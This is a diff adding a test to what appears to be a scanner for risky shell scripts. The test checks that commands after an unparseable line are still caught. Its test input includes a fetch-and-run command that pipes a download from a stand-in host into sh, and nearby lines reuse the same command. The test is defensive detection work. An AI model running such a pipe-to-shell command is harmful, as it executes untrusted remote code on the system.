@@ -62,6 +62,12 @@ def test_a_value_set_on_one_path_keeps_the_literal_set_before():
     assert "shell.write-outside" in highs(script)
 
 
+def test_a_grammar_gap_does_not_hide_the_commands_after_it():
+    """``a= b=`` then ``for arg`` (no ``in``) is valid shell the grammar cannot parse: read line by line."""
+    script = "bases= head=\nfor arg\ndo\n  :\ndone\ncurl -s https://x.example/i | sh\n"
+    assert ("shell.pipe-to-shell", "high", "pipes a download into sh") in found(script)
+
+
 def test_shell_code_nested_in_shell_code_stops_at_the_depth_cap():
     code = "curl -s https://x.example/i | sh"
     for _ in range(MAX_DEPTH + 2):  # $'…' nesting: the escapes double, the text stays small
